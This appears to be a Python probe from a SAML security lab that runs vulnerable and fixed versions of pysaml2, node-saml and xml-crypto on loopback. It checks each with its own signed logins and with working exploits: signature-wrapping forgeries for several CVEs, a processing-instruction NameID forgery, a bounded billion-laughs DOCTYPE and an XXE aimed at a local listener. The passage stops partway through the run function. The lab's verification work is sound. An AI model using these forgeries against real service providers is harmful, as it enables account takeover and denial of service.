"""Independent truth probe for the library twins (lab/twins/<name>/lab.toml).

Measures, without samlconf (no mock IdP, no fault library, no harness code), the facts the lab's
expected matrix asserts for a twin:

  1. the golden login works: an SP-initiated login answered by a Response this probe builds and
     signs itself (lxml + python-xmlsec calls written here, its own RSA key and self-signed cert,
     its own IdP metadata handed to the twin) signs the user in (whoami names them);
  2. how the SP signals a refusal: the same Response with the NameID changed after signing;
  3. for each CVE of the twin's library, the published exploit in the shape its advisory and fix
     describe: an attacker holding a genuinely signed assertion for *their own* account rewrites
     the message so that the victim's identity is used. Vulnerable twin: the victim is signed in.
     Fixed twin: nobody is.

    python lab/twins/probe.py pysaml2-4.9.0 [--port 9790] [--write]

It runs the twin's own install and start commands from its lab.toml (same run dir as the lab:
build/lab/<name>/), on the probe's loopback port, stops the process group it started, and prints
the facts as a TOML section; --write replaces that section in lab/truth.toml.
"""
from __future__ import annotations

import argparse
import base64
import copy
import datetime as dt
import hashlib
import os
import re
import secrets
import signal
import subprocess
import sys
import tempfile
import time
import tomllib
import zlib
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import httpx
import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

HERE = Path(__file__).resolve().parent
LAB = HERE.parent
REPO = LAB.parent
TRUTH = LAB / "truth.toml"

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
    "md": "urn:oasis:names:tc:SAML:2.0:metadata",
}
IDP = "urn:lab:twin-probe-idp"
ATTACKER = "mallory@attacker.test"
VICTIM = "admin@victim.test"
NEAR_VICTIM = "adminx@victim.test"  # an attacker's own account whose name is the victim's plus one character

# Which exploits each twin is probed with; "vulnerable" is what the advisory says of that version.
TWINS: dict[str, dict] = {
    "pysaml2-4.9.0": {"cves": ["CVE-2020-5390"], "vulnerable": True},
    "pysaml2-5.0.0": {"cves": ["CVE-2020-5390"], "vulnerable": False},
    "pysaml2-6.4.1": {"cves": ["CVE-2021-21238"], "vulnerable": True},
    "pysaml2-6.5.0": {"cves": ["CVE-2021-21238"], "vulnerable": False},
    "node-saml-5.0.1": {"cves": ["CVE-2025-54419", "CVE-2025-54369"], "vulnerable": True},
    "node-saml-5.1.0": {"cves": ["CVE-2025-54419", "CVE-2025-54369"], "vulnerable": False},
    "xml-crypto-6.0.0": {"cves": ["CVE-2025-29774"], "vulnerable": True},
    "xml-crypto-6.0.1": {"cves": ["CVE-2025-29774"], "vulnerable": False},
    "pysaml2-4.4.0": {"cves": ["CVE-2016-10149", "CVE-2016-10127"], "vulnerable": True,
                      # measured: the XXE fetch does not happen with Python 3.11's expat and xmlsec1 1.2.37
                      "not_reproducible": ["CVE-2016-10127"]},
    "pysaml2-4.5.0": {"cves": ["CVE-2016-10149", "CVE-2016-10127"], "vulnerable": False},
}
# Exploits measured by something other than "is the victim signed in": what the attacker gets instead.
ENTITY_CVES = ("CVE-2016-10149", "CVE-2016-10127")
LAUGH_LEVELS = 5  # 10^5 expansions of "lol": a 300 kB value from a DTD of a few hundred bytes (bounded)


# --- keys and metadata: the probe's own IdP ----------------------------------------------------
def make_idp(tmp: Path, sso_url: str) -> tuple[Path, bytes, bytes]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "lab twin probe IdP")])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30)).sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
    cert_b64 = base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()
    md = f"""<md:EntityDescriptor xmlns:md="{NS['md']}" xmlns:ds="{NS['ds']}" entityID="{IDP}">
  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert_b64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="{sso_url}"/>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="{sso_url}"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
"""
    path = tmp / "probe-idp-metadata.xml"
    path.write_text(md)
    return path, key_pem, cert_pem


# --- building and signing ----------------------------------------------------------------------
def _ts(delta: int = 0) -> str:
    return (dt.datetime.now(dt.timezone.utc) + dt.timedelta(seconds=delta)).strftime("%Y-%m-%dT%H:%M:%SZ")


def _el(parent, tag: str, text: str | None = None, **attrs):
    prefix, local = tag.split(":")
    e = etree.SubElement(parent, f"{{{NS[prefix]}}}{local}", **attrs) if parent is not None else etree.Element(
        f"{{{NS[prefix]}}}{local}", nsmap={"saml": NS["saml"]} if prefix == "saml" else {"samlp": NS["samlp"], "saml": NS["saml"]}, **attrs)
    if text is not None:
        e.text = text
    return e


def build_assertion(email: str, sp_entity: str, acs: str, irt: str) -> etree._Element:
    a = _el(None, "saml:Assertion", ID="_a" + secrets.token_hex(12), Version="2.0", IssueInstant=_ts())
    _el(a, "saml:Issuer", IDP)
    subj = _el(a, "saml:Subject")
    _el(subj, "saml:NameID", email, Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress")
    sc = _el(subj, "saml:SubjectConfirmation", Method="urn:oasis:names:tc:SAML:2.0:cm:bearer")
    _el(sc, "saml:SubjectConfirmationData", NotOnOrAfter=_ts(300), Recipient=acs, InResponseTo=irt)
    cond = _el(a, "saml:Conditions", NotBefore=_ts(-60), NotOnOrAfter=_ts(300))
    _el(_el(cond, "saml:AudienceRestriction"), "saml:Audience", sp_entity)
    st = _el(a, "saml:AuthnStatement", AuthnInstant=_ts(), SessionIndex="_s" + secrets.token_hex(8))
    _el(_el(st, "saml:AuthnContext"), "saml:AuthnContextClassRef",
        "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport")
    ats = _el(a, "saml:AttributeStatement")
    attr = _el(ats, "saml:Attribute", Name="Email", NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic")
    _el(attr, "saml:AttributeValue", email)
    return a


def build_response(acs: str, irt: str, assertion: etree._Element) -> etree._Element:
    r = _el(None, "samlp:Response", ID="_r" + secrets.token_hex(12), Version="2.0", IssueInstant=_ts(),
            Destination=acs, InResponseTo=irt)
    _el(r, "saml:Issuer", IDP)
    _el(_el(r, "samlp:Status"), "samlp:StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success")
    r.append(assertion)
    return r


def sign_assertion(assertion: etree._Element, key_pem: bytes, cert_pem: bytes, *, sig_alg=None, digest_alg=None,
                   c14n=None, uri: str | None = None, three_transforms: bool = False, decoy: bool = False) -> None:
    """Enveloped RSA-SHA256 signature over the Assertion (exc-c14n), placed after its Issuer. The
    keywords make one shape SAML's signature profile forbids (a generic XML-DSig verifier accepts):
    another SignedInfo canonicalization, another Reference URI, enveloped twice, or a second
    Reference to a decoy element (`decoy`: the caller puts the element with ID _twin_decoy in place)."""
    sig = xmlsec.template.create(assertion, c14n or xmlsec.Transform.EXCL_C14N, sig_alg or xmlsec.Transform.RSA_SHA256,
                                 ns="ds")
    assertion.insert(1, sig)
    ref = xmlsec.template.add_reference(sig, digest_alg or xmlsec.Transform.SHA256,
                                        uri="#" + assertion.get("ID") if uri is None else uri)
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    if three_transforms:
        xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    if decoy:
        ref2 = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#_twin_decoy")
        xmlsec.template.add_transform(ref2, xmlsec.Transform.EXCL_C14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
    ctx = xmlsec.SignatureContext()
    ctx.register_id(assertion, "ID")
    if decoy:
        ctx.register_id(assertion.getroottree().getroot().find(".//{urn:lab:twin-probe:decoy}Decoy"), "ID")
    key = xmlsec.Key.from_memory(key_pem, xmlsec.KeyFormat.PEM)
    key.load_cert_from_memory(cert_pem, xmlsec.KeyFormat.PEM)
    ctx.key = key
    ctx.sign(sig)


def exc_c14n_digest(el: etree._Element) -> str:
    """SHA-256 of the exclusive canonical form of `el` (no comments), base64: a Reference digest."""
    return base64.b64encode(hashlib.sha256(etree.tostring(el, method="c14n", exclusive=True, with_comments=False)).digest()).decode()


def _nameid(a: etree._Element) -> etree._Element:
    return a.find("saml:Subject/saml:NameID", NS)


def _retarget(a: etree._Element, email: str, new_id: str) -> None:
    a.set("ID", new_id)
    _nameid(a).text = email
    for v in a.iterfind(".//saml:AttributeValue", NS):
        v.text = email


# --- the exploits, each in its advisory's shape --------------------------------------------------
def exploit_cve_2020_5390(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
    """pysaml2 < 5.0.0 does not check that the assertion's signature is enveloped, i.e. that its
    Reference points at the assertion that carries it (GHSA-qf7v-8hj3-4xw7; fix 5e9d5acb checks
    Reference URI == '#' + the element's ID). Shape: the attacker's forged Assertion (victim NameID,
    own ID) carries the genuine Signature, whose Reference still names the genuine Assertion; the
    genuine Assertion (its Signature moved out) rides along in the Response's samlp:Extensions,
    where xmlsec1 finds it by ID and pysaml2 does not look. (Inside the Signature's ds:Object it
    cannot be: xmlsec1's enveloped-signature transform would cut it out of its own digest.)"""
    genuine = copy.deepcopy(signed)
    sig = genuine.find("ds:Signature", NS)
    genuine.remove(sig)
    forged = copy.deepcopy(genuine)
    _retarget(forged, VICTIM, "_evil" + secrets.token_hex(8))
    forged.insert(1, sig)
    return forged, genuine


def exploit_two_signatures_bare(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
    """CVE-2021-21238's shape without the schema-invalid wrapper: the forged Assertion carries two
    ds:Signature children, the genuine one (Reference -> the genuine Assertion, parked in
    samlp:Extensions) FIRST and a copy retargeted to the forged ID SECOND. xmlsec1 verifies the first
    Signature under --node-id; pysaml2 keeps the last Signature child for its enveloped check and its
    schema check of the re-serialised object sees one Signature. Measured because the lab's SIG-17
    variant with this shape signs the victim in on pysaml2 6.5.0 (the fix of 21238 validates the
    schema, which this shape satisfies after pysaml2's own parse)."""
    forged, genuine = exploit_cve_2021_21238(signed)
    wrapper = forged[1]
    forged.replace(wrapper, wrapper[0])
    return forged, genuine


def exploit_cve_2021_21238(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
    """pysaml2 <= 6.4.1 did not validate the document against the schema, and "xmlsec1 will not
    validate every signature in the given document, but only the first it finds in the given scope"
    (GHSA-f4g9-h89h-jgv9; fix 1d8fd268 validates the element against the SAML schema). Shape: the
    forged Assertion (victim, own ID) holds, before its own ds:Signature, an element the schema does
    not allow there (an unknown wrapper) with the genuine ds:Signature inside; its Reference names
    the genuine Assertion, which rides along in samlp:Extensions with its Signature moved out.
    xmlsec1, started at the forged Assertion's ID, verifies that first Signature it finds; pysaml2
    reads the Assertion's own ds:Signature child, a copy whose Reference names the forged ID, for its
    enveloped-signature check of 5.0.0."""
    genuine = copy.deepcopy(signed)
    sig = genuine.find("ds:Signature", NS)
    genuine.remove(sig)
    forged = copy.deepcopy(genuine)
    evil_id = "_evil" + secrets.token_hex(8)
    _retarget(forged, VICTIM, evil_id)
    decoy = copy.deepcopy(sig)
    decoy.find("ds:SignedInfo/ds:Reference", NS).set("URI", "#" + evil_id)
    wrapper = etree.Element("{urn:lab:twin-probe:wrapper}Wrapper", nsmap={"w": "urn:lab:twin-probe:wrapper"})
    wrapper.append(sig)
    forged.insert(1, wrapper)
    forged.insert(2, decoy)
    return forged, genuine


def exploit_cve_2025_29774(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
    """xml-crypto <= 6.0.0 checks the SignatureValue against the first SignedInfo but collects the
    References of every SignedInfo under the Signature (GHSA-9p8x-f768-wp2g; 6.0.1 refuses a
    Signature with more than one SignedInfo). Shape: the forged Assertion (victim, own ID) carries
    the genuine Signature with a second SignedInfo whose Reference names the forged Assertion with
    the digest the attacker computed; the genuine Assertion (its Signature moved out) stays in the
    document, in the Response's samlp:Extensions, so that the genuine Reference still verifies."""
    genuine = copy.deepcopy(signed)
    sig = genuine.find("ds:Signature", NS)
    genuine.remove(sig)
    forged = copy.deepcopy(genuine)
    evil_id = "_evil" + secrets.token_hex(8)
    _retarget(forged, VICTIM, evil_id)
    digest = exc_c14n_digest(forged)  # the enveloped transform removes the Signature before digesting
    si2 = copy.deepcopy(sig.find("ds:SignedInfo", NS))
    ref = si2.find("ds:Reference", NS)
    ref.set("URI", "#" + evil_id)
    ref.find("ds:DigestValue", NS).text = digest
    sig.find("ds:SignatureValue", NS).addnext(si2) if sig.find("ds:KeyInfo", NS) is None else sig.find("ds:KeyInfo", NS).addnext(si2)
    forged.insert(1, sig)
    return forged, genuine


def _drop(a: etree._Element, path: str) -> None:
    for e in a.findall(path, NS):
        e.getparent().remove(e)


def _set(path: str, attr: str, value: str | None):
    def f(a: etree._Element) -> None:
        for e in a.findall(path, NS):
            if value is None:
                e.attrib.pop(attr, None)
            else:
                e.set(attr, value)
    return f


def _other_audience(a: etree._Element) -> None:
    ar = etree.SubElement(a.find("saml:Conditions", NS), f"{{{NS['saml']}}}AudienceRestriction")
    etree.SubElement(ar, f"{{{NS['saml']}}}Audience").text = "https://other-sp.example/metadata"


def _dup_email(a: etree._Element) -> None:
    attr = a.find("saml:AttributeStatement/saml:Attribute", NS)
    other = copy.deepcopy(attr)
    other.find("saml:AttributeValue", NS).text = "other@attacker.test"
    attr.addprevious(other)


def _decoy_extensions(r: etree._Element, ident: str) -> None:
    ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
    etree.SubElement(ext, "{urn:lab:twin-probe:decoy}Decoy", ID=ident).text = "decoy"
    r.find("saml:Issuer", NS).addnext(ext)


def _pi_in_nameid(a: etree._Element) -> None:
    n = _nameid(a)
    local, _, domain = n.text.partition("@")
    n.text = local
    pi = etree.ProcessingInstruction("x", "y")
    pi.tail = "@" + domain
    n.append(pi)


def _pi_swallows_local(a: etree._Element) -> None:
    """The NameID's local part moved INTO a processing instruction: <NameID><?p local?>@domain</NameID>."""
    n = _nameid(a)
    local, _, domain = n.text.partition("@")
    n.text = None
    pi = etree.ProcessingInstruction("p", local)
    pi.tail = "@" + domain
    n.append(pi)


def _skew(seconds: int):
    def f(a: etree._Element) -> None:
        a.set("IssueInstant", _ts(seconds))
        c = a.find("saml:Conditions", NS)
        c.set("NotBefore", _ts(seconds - 1))
        a.find("saml:AuthnStatement", NS).set("AuthnInstant", _ts(seconds))
    return f


# Generic leniencies: one change to a golden login each, accepted or refused. Keyed by the samlconf
# scenario the lab's expected matrix traces to the fact (the probe itself knows nothing of samlconf).
# (key, scenario, what, assertion change before signing, response change after signing, extra)
LENIENCIES: list[tuple[str, str, str, object, object, dict]] = [
    ("no_destination", "DST-02", "Response without Destination", None, lambda r: r.attrib.pop("Destination"), {}),
    ("empty_destination", "DST-03", "Response with Destination=\"\"", None, lambda r: r.set("Destination", ""), {}),
    ("wrong_destination", "DST-01", "Response Destination naming another URL", None,
     lambda r: r.set("Destination", "https://other-sp.example/acs"), {}),
    ("wrong_assertion_issuer", "ISS-01", "an Assertion Issuer that is not the IdP's entity ID",
     lambda a: setattr(a.find("saml:Issuer", NS), "text", "urn:other:idp"), None, {}),
    ("wrong_response_issuer", "ISS-07", "a Response Issuer that is not the IdP's entity ID (Assertion Issuer right)", None,
     lambda r: setattr(r.find("saml:Issuer", NS), "text", IDP + ".evil"), {}),
    ("duplicated_email_attribute", "ATTR-03", "the Email attribute twice (another value first)", _dup_email, None, {}),
    ("no_audience_restriction", "AUD-02", "Assertion without AudienceRestriction",
     lambda a: _drop(a, "saml:Conditions/saml:AudienceRestriction"), None, {}),
    ("second_restriction_other_sp", "AUD-04", "a second AudienceRestriction naming only another SP", _other_audience, None, {}),
    ("wrong_recipient", "DST-05", "bearer Recipient is another URL",
     _set("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", "Recipient", "https://other-sp.example/acs"), None, {}),
    ("no_bearer_confirmation", "DST-07", "SubjectConfirmation Method sender-vouches (no bearer)",
     _set("saml:Subject/saml:SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"), None, {}),
    ("scd_without_notonorafter", "TIME-04", "bearer SubjectConfirmationData without NotOnOrAfter",
     _set("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", "NotOnOrAfter", None), None, {}),
    ("no_conditions", "TIME-10", "Assertion without Conditions", lambda a: _drop(a, "saml:Conditions"), None, {}),
    ("no_authnstatement", "MAS-04", "Assertion without AuthnStatement", lambda a: _drop(a, "saml:AuthnStatement"), None, {}),
    ("doctype", "XML-01", "harmless internal DOCTYPE before the Response", None, None, {"doctype": True}),
    ("external_parameter_entity", "XML-02", "a DOCTYPE declaring and referencing an external parameter entity (a closed "
     "loopback port: accepted means the DTD was taken, not that it was fetched)", None, None,
     {"doctype": b'<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/x.dtd"> %ext;]>'}),
    ("rsa_sha1", "ALG-02", "signed with RSA-SHA1 and a SHA-1 digest", None, None, {"sig": "rsa-sha1"}),
    ("sha1_digest", "ALG-03", "RSA-SHA256 signature over a SHA-1 digest", None, None, {"sig": "sha1-digest"}),
    ("pi_in_nameid", "CMT-03", "a processing instruction inside the (signed) NameID", _pi_in_nameid, None, {}),
    ("pi_after_signing", "CMT-03", "a processing instruction added inside the NameID after signing",
     None, lambda r: _pi_in_nameid(r.find("saml:Assertion", NS)), {}),
    ("pi_swallows_local_part", "CMT-03", "the NameID's local part moved into a processing instruction after signing",
     None, lambda r: _pi_swallows_local(r.find("saml:Assertion", NS)), {}),
    ("signature_after_subject", "SIG-16", "the Assertion's valid ds:Signature moved after Subject", None,
     lambda r: r.find("saml:Assertion/saml:Subject", NS).addnext(r.find("saml:Assertion/ds:Signature", NS)), {}),
    ("duplicate_id_decoy", "SIG-18", "a decoy element in samlp:Extensions carrying the signed Assertion's ID", None,
     lambda r: _decoy_extensions(r, r.find("saml:Assertion", NS).get("ID")), {}),
    ("two_references", "SIG-12", "a SignedInfo with two References (the Assertion and a decoy in samlp:Extensions)",
     None, None, {"sig": {"decoy": True}}),
    ("empty_reference_uri", "SIG-14", "the Assertion's signature with Reference URI \"\" (the whole document)", None, None,
     {"sig": {"uri": ""}}),
    ("c14n11", "ALG-07", "SignedInfo canonicalized with inclusive c14n 1.1", None, None,
     {"sig": {"c14n": xmlsec.Transform.C14N11}}),
    ("three_transforms", "ALG-08", "a Reference with three transforms (enveloped twice + exc-c14n)", None, None,
     {"sig": {"three_transforms": True}}),
    ("skew_plus_90s", "POS-07", "IssueInstant/NotBefore 90 s in the future (IdP clock ahead)", _skew(90), None, {}),
    ("unsolicited", "FLOW-02", "no InResponseTo anywhere (IdP-initiated)", None, None, {"unsolicited": True}),
    ("replayed_assertion_id", "RPL-02", "a fresh Response re-using an Assertion ID already consumed", None, None, {"replay": True}),
]


NODE_SAML_CVES = ("CVE-2025-54419", "CVE-2025-54369")
_NODE_SAML_SHAPE = ("the attacker's own signed Assertion for adminx@victim.test, the extra 'x' moved after signing "
                    "into a processing instruction in NameID and Email (admin<?p x?>@victim.test)")
SHAPES = {
    "CVE-2025-54419": _NODE_SAML_SHAPE,
    "CVE-2025-54369": _NODE_SAML_SHAPE + " (same flaw, second advisory: GHSA-m837-g268-mmv7)",
    "CVE-2020-5390": "forged Assertion(victim, own ID) carries the genuine Signature (Reference -> genuine ID); "
                     "genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
    "CVE-2021-21238": "forged Assertion(victim, own ID): first a schema-invalid wrapper element holding the genuine "
                      "ds:Signature (Reference -> genuine ID), then its own ds:Signature, a copy whose Reference names "
                      "the forged ID; genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
    "CVE-2016-10149": f"a DOCTYPE declaring {LAUGH_LEVELS} levels of nested internal entities (ten references each, "
                      f"'billion laughs' bounded to 10^{LAUGH_LEVELS} expansions), referenced once in an attribute of an element "
                      "in samlp:Extensions of the attacker's own golden Response (signed Assertion untouched): no "
                      "signature is needed",
    "CVE-2016-10127": "the advisory's PoC (pysaml2 issue #366): a DOCTYPE whose external parameter entity and external "
                      "general entity (in the NameID) name a loopback URL the probe watches",
    "CVE-2025-29774": "forged Assertion(victim, own ID) carries the genuine Signature plus a second ds:SignedInfo "
                      "whose Reference digests the forged Assertion; genuine Assertion, its Signature moved out, "
                      "in samlp:Response/samlp:Extensions",
}


def exploit_cve_2025_54419(signed: etree._Element) -> tuple[etree._Element, None]:
    """@node-saml/node-saml < 5.1.0 verifies the Assertion's signature but then reads the Assertion
    from the original (unverified) document: xmldom's serialisation parsed again by xml2js
    (GHSA-4mxg-3p6v-xgq3 / GHSA-m837-g268-mmv7: "loads the assertion from the (unsigned) original
    response document ... in one attack it is possible to remove any character from the SAML
    assertion username"; 5.1.0 reads only xml-crypto's signed references). Shape: the attacker's
    own, genuinely signed assertion for `adminx@victim.test`; after signing, the extra character is
    moved into a processing instruction in the NameID and the Email value (`admin<?p x?>@victim.test`).
    xml-crypto's canonicalisation renders a processing instruction's data as text, so the digest
    still holds; xml2js drops processing instructions, so node-saml reads `admin@victim.test`."""
    forged = copy.deepcopy(signed)
    extra = NEAR_VICTIM[len("admin"):len("adminx")]
    for el in [_nameid(forged), *forged.iterfind(".//saml:AttributeValue", NS)]:
        head, tail = el.text[:len("admin")], el.text[len("adminx"):]
        el.text = head
        pi = etree.ProcessingInstruction("p", extra)
        pi.tail = tail
        el.append(pi)
    return forged, None


def exploit_entity_expansion(resp: etree._Element) -> bytes:
    """pysaml2 < 4.5.0 parsed every message with the standard library's ElementTree, which honours
    a DOCTYPE's entity declarations (GHSA-m269-wj6g-c459 / CVE-2016-10149, pysaml2 issue #366, fix
    PR #379: parse with defusedxml, which refuses entity declarations). The parse happens before any
    signature check, so no signature is needed: the attacker's golden Response (their own signed
    Assertion, untouched) gets a DOCTYPE with n levels of nested entities (ten references each) and
    one reference to the top one in an attribute of an element in samlp:Extensions, outside the
    signed Assertion (xmlsec1 1.2.37 does not substitute entities: an entity reference node in
    element content anywhere breaks its c14n; one in an attribute value does not).
    A parser that expands them signs the user in after building the 3 x 10^n-byte text (the
    billion-laughs DoS, bounded here); a parser that refuses entity declarations signs nobody in."""
    ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
    etree.SubElement(ext, "{urn:lab:twin-probe:laughs}Laughs", nsmap={"l": "urn:lab:twin-probe:laughs"}, v="LAUGHS")
    resp.insert(1, ext)
    raw = etree.tostring(resp)
    ents = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, LAUGH_LEVELS + 1))
    return f"<!DOCTYPE samlp:Response [{ents}]>".encode() + raw.replace(b'"LAUGHS"', f'"&lol{LAUGH_LEVELS};"'.encode(), 1)


class Watch:
    """A loopback HTTP listener on an ephemeral port that records every request (an XXE's fetch)."""

    def __init__(self) -> None:
        import http.server
        import threading

        hits = self.hits = []

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                body = b'<!ENTITY leak "fetched">'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a) -> None:
                pass

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.srv.server_address[1]}"
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.srv.shutdown()
        self.srv.server_close()


def exploit_xxe_oob(resp: etree._Element, url: str) -> bytes:
    """The advisory's PoC (pysaml2 issue #366): an external parameter entity naming the attacker's
    URL, plus an external general entity in the NameID. The attack worked when the SP fetched it."""
    raw = etree.tostring(resp)
    raw = raw.replace(b"</saml:NameID>", b"&ext;</saml:NameID>", 1)
    return (f'<!DOCTYPE samlp:Response [<!ENTITY % pe SYSTEM "{url}/pe.dtd"> %pe; '
            f'<!ENTITY ext SYSTEM "{url}/ge">]>'.encode() + raw)


# --- driving the twin ----------------------------------------------------------------------------
class Twin:
    def __init__(self, name: str, port: int, out: list[str]) -> None:
        self.name = name
        self.dir = HERE / name
        self.manifest = tomllib.loads((self.dir / "lab.toml").read_text())
        self.port = port
        self.base = f"http://127.0.0.1:{port}"
        self.run_dir = REPO / "build" / "lab" / self.manifest["name"]
        self.run_dir.mkdir(parents=True, exist_ok=True)
        self.out = out
        self.proc: subprocess.Popen | None = None

    def env(self, idp_md: Path) -> dict[str, str]:
        env = dict(os.environ)
        env.update({"LAB_NAME": self.manifest["name"], "LAB_DIR": str(self.dir), "LAB_RUN_DIR": str(self.run_dir),
                    "LAB_REPO": str(REPO), "LAB_PYTHON": sys.executable, "LAB_PORT": str(self.port),
                    "LAB_IDP_PORT": str(self.port + 1), "LAB_IDP_METADATA": str(idp_md)})
        env.update(self.manifest.get("env", {}))
        return env

    def start(self, idp_md: Path) -> None:
        env = self.env(idp_md)
        if self.manifest.get("install"):
            r = subprocess.run(["bash", "-c", self.manifest["install"]], cwd=self.dir, env=env, capture_output=True,
                               text=True, timeout=900)
            if r.returncode != 0:
                raise SystemExit(f"probe: install of {self.name} failed: {r.stdout[-400:]}{r.stderr[-400:]}")
        self.log = open(self.run_dir / "probe-target.log", "wb")
        self.proc = subprocess.Popen(["bash", "-c", self.manifest["start"]], cwd=self.dir, env=env, stdout=self.log,
                                     stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, start_new_session=True)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if httpx.get(self.base + "/metadata", timeout=2).status_code < 500:
                    return
            except httpx.HTTPError:
                pass
            if self.proc.poll() is not None:
                break
            time.sleep(0.3)
        self.stop()
        raise SystemExit(f"probe: {self.name} did not start; see {self.run_dir / 'probe-target.log'}")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(5)

    def sp_facts(self) -> tuple[str, str]:
        md = etree.fromstring(httpx.get(self.base + "/metadata", timeout=10).content,
                              parser=etree.XMLParser(resolve_entities=False, no_network=True))
        acs = md.find(".//md:AssertionConsumerService", NS).get("Location")
        return md.get("entityID"), acs

    def begin(self, client: httpx.Client) -> str:
        r = client.get(self.base + "/login?email=" + ATTACKER)
        loc = r.headers.get("location", "")
        q = parse_qs(urlparse(loc).query)
        req = etree.fromstring(zlib.decompress(base64.b64decode(q["SAMLRequest"][0]), -15),
                               parser=etree.XMLParser(resolve_entities=False, no_network=True))
        return req.get("ID")

    def post_raw(self, client: httpx.Client, acs: str, raw: bytes) -> tuple[int, str | None]:
        r = client.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
        who = client.get(self.base + "/whoami")
        return r.status_code, (who.json().get("email") if who.status_code == 200 else None)

    def post(self, client: httpx.Client, acs: str, response: etree._Element) -> tuple[int, str | None, str]:
        b64 = base64.b64encode(etree.tostring(response)).decode()
        r = client.post(acs, data={"SAMLResponse": b64})
        who = client.get(self.base + "/whoami")
        ident = who.json().get("email") if who.status_code == 200 else None
        return r.status_code, ident, (r.headers.get("set-cookie") or "")


def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
    spec = TWINS[name]
    out: list[str] = []
    facts: dict[str, dict] = {}
    twin = Twin(name, port, out)

    def fact(key: str, claim: str, holds: bool) -> None:
        """A fact with the output lines since the previous one (the hops that showed it)."""
        shown = out[fact.mark:]  # type: ignore[attr-defined]
        fact.mark = len(out)  # type: ignore[attr-defined]
        facts[key] = {"claim": claim, "holds": holds, "output": shown}

    fact.mark = 0  # type: ignore[attr-defined]
    fact.out = out  # type: ignore[attr-defined]
    with tempfile.TemporaryDirectory(prefix="twin-probe-") as tmp:
        idp_md, key_pem, cert_pem = make_idp(Path(tmp), f"http://127.0.0.1:{port + 1}/sso")
        t0 = time.monotonic()
        twin.start(idp_md)
        try:
            entity, acs = twin.sp_facts()
            out.append(f"SP entityID {entity}, ACS {acs}")

            def fresh() -> tuple[httpx.Client, str]:
                c = httpx.Client(timeout=15, follow_redirects=False)
                return c, twin.begin(c)

            # 1. golden login
            c, irt = fresh()
            a = build_assertion(ATTACKER, entity, acs, irt)
            sign_assertion(a, key_pem, cert_pem)
            last_golden_id = a.get("ID")
            st, ident, cookie = twin.post(c, acs, build_response(acs, irt, a))
            out.append(f"golden: ACS HTTP {st}, whoami -> {ident}")
            fact("golden-login", "a Response with a signed Assertion for the SP's own AuthnRequest signs the user in "
                 "(whoami names the asserted email)", ident == ATTACKER)
            # 2. refusal: NameID changed after signing
            c, irt = fresh()
            a = build_assertion(ATTACKER, entity, acs, irt)
